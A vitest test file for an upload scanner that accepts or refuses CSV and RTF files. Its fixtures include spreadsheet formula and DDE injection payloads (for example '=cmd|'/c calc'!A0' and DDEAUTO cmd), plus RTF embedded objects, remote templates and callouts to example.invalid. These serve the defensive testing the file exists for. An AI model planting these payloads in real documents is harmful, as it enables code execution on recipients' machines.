import { describe, expect, it } from 'vitest'
import { genuine } from '../../../../tests/corpus/kept.ts'
import { examined } from '../../../../tests/fixtures/examined.ts'
import { mutated, numbers } from '../../../../tests/fixtures/mutations.ts'

describe('CSV', () => {
  it.each([
    'name,sum\nWeber,-12.5\n',
    '=SUM(A1:A3);=A1*2;+49 30 1234\n',
    '"a ""quoted"" cell",@handle,a|b|c!\n',
    'plain | text ! and =\n',
    '',
  ])('is taken: %j', async (text) => {
    expect(await examined(text, 'text/csv')).toBe('taken')
  })

  it.each([
    "=cmd|'/c calc'!A0",
    "a,b\n1,=cmd|'/c calc'!A0",
    `"=cmd|' /C calc'!'A1'"`,
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(cmd|x!A1)',
    "\t =  cmd|'/c x'!A1",
    '+WEBSERVICE("http://example.invalid")',
    '"=HYPERLINK(""http://example.invalid"";""here"")"',
    '=IMPORTXML(CONCAT("http://example.invalid",A1),"//a")',
    'x;=EXEC("x")',
    'x\t=CALL("a","b")',
    '=REGISTER.ID("a")',
  ])('that calls out is refused: %j', async (text) => {
    expect(await examined(text, 'text/csv')).toMatch(/^active_content: a cell calls out/)
  })

  it('that calls out is found in UTF-16 too, and across pieces', async () => {
    const call = "=cmd|'/c calc'!A0"
    expect(await examined(Buffer.from(`\ufeffa,${call}`, 'utf16le'), 'text/csv')).toMatch(/^active_content/)
    expect(await examined(`${'a,'.repeat(32_760)}"",${call}`, 'text/csv')).toMatch(/^active_content/)
  })
})

describe('RTF', () => {
  it.each([
    '{\\rtf1\\ansi Hello {\\b world}\\par}',
    '{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "https://example.com"}{\\fldrslt here}}}',
    '{\\rtf1 {\\field{\\*\\fldinst PAGE}{\\fldrslt 1}} DDE is a word, object too}',
    '{\\rtf1 {\\*\\template C:\\\\Office\\\\Normal.dot}x}',
    '{\\rtf1 {\\pict\\pngblip\\bin4 {{}}}}',
    "{\\rtf1 caf\\'e9 \\u26085?}\r\n\0",
  ])('is taken: %j', async (text) => {
    expect(await examined(text, 'application/rtf')).toBe('taken')
  })

  it.each<[string, string, string]>([
    ['an object', '{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}', 'active_content'],
    ['an object that hides', '{\\rtf1 {\\*\\x{\\y{\\objdata 01}}}}', 'active_content'],
    ['an object that updates', '{\\rtf1 {\\*\\objupdate}}', 'active_content'],
    ['DDE', '{\\rtf1 {\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}}}', 'active_content'],
    ['DDE in groups', '{\\rtf1 {\\field{\\*\\fldinst {\\b D}{\\i DE}AUTO cmd}}}', 'active_content'],
    ['DDE in hex', "{\\rtf1 {\\field{\\*\\fldinst \\'44\\'44E cmd}}}", 'active_content'],
    ['a template elsewhere', '{\\rtf1 {\\*\\template http://example.invalid/a.dotm}}', 'active_content'],
    [
      'a text that is fetched',
      '{\\rtf1 {\\field{\\*\\fldinst INCLUDETEXT "http://example.invalid"}}}',
      'active_content',
    ],
    [
      'a link to a share',
      '{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "\\\\\\\\example.invalid\\\\a"}}}',
      'active_content',
    ],
    ['a link to a script', '{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "javascript:x"}}}', 'active_content'],
    ['groups that are not closed', '{\\rtf1 {\\b x}', 'corrupt'],
    ['binary data that is cut', '{\\rtf1 {\\pict\\bin4000 x}}', 'corrupt'],
    ['another header', '{\\rt Hello}', 'corrupt'],
    ['groups in groups', `{\\rtf1 ${'{'.repeat(1000)}${'}'.repeat(1000)}}`, 'unscannable'],
    ['something behind it', '{\\rtf1 x} hidden', 'polyglot'],
    ['an object behind its end', '{\\rtf1 x}{\\object\\objdata 01}', 'polyglot'],
  ])('with %s is refused', async (_, text, code) => {
    expect(await examined(text, 'application/rtf')).toMatch(new RegExp(`^${code}: `))
  })

  it('of LibreOffice is taken', async () => {
    expect(await examined(genuine('letter.rtf'), 'application/rtf')).toBe('taken')
  })
})

it('CSV and RTF changed anywhere are taken or refused', async () => {
  const random = numbers(7)
  const seeds: [string, string][] = [
    ['application/rtf', "{\\rtf1 {\\field{\\*\\fldinst PAGE}} caf\\'e9 {\\pict\\bin4 {{}}} \\u26085?}"],
    ['text/csv', '"a ""quoted"" cell";=SUM(A1)\n-1,2\n'],
  ]
  const counts = new Map<string, number>()
  for (let round = 0; round < 3000; round++) {
    const [type, seed] = seeds[round % 2]!
    const code = (await examined(mutated(seed, ['{', '}', '\\bin', '\\objdata', '"', '=cmd|!'], random), type)).split(
      ':',
    )[0]!
    counts.set(code, (counts.get(code) ?? 0) + 1)
  }
  expect([...counts.keys()]).toEqual(expect.arrayContaining(['taken', 'corrupt', 'active_content', 'polyglot']))
})
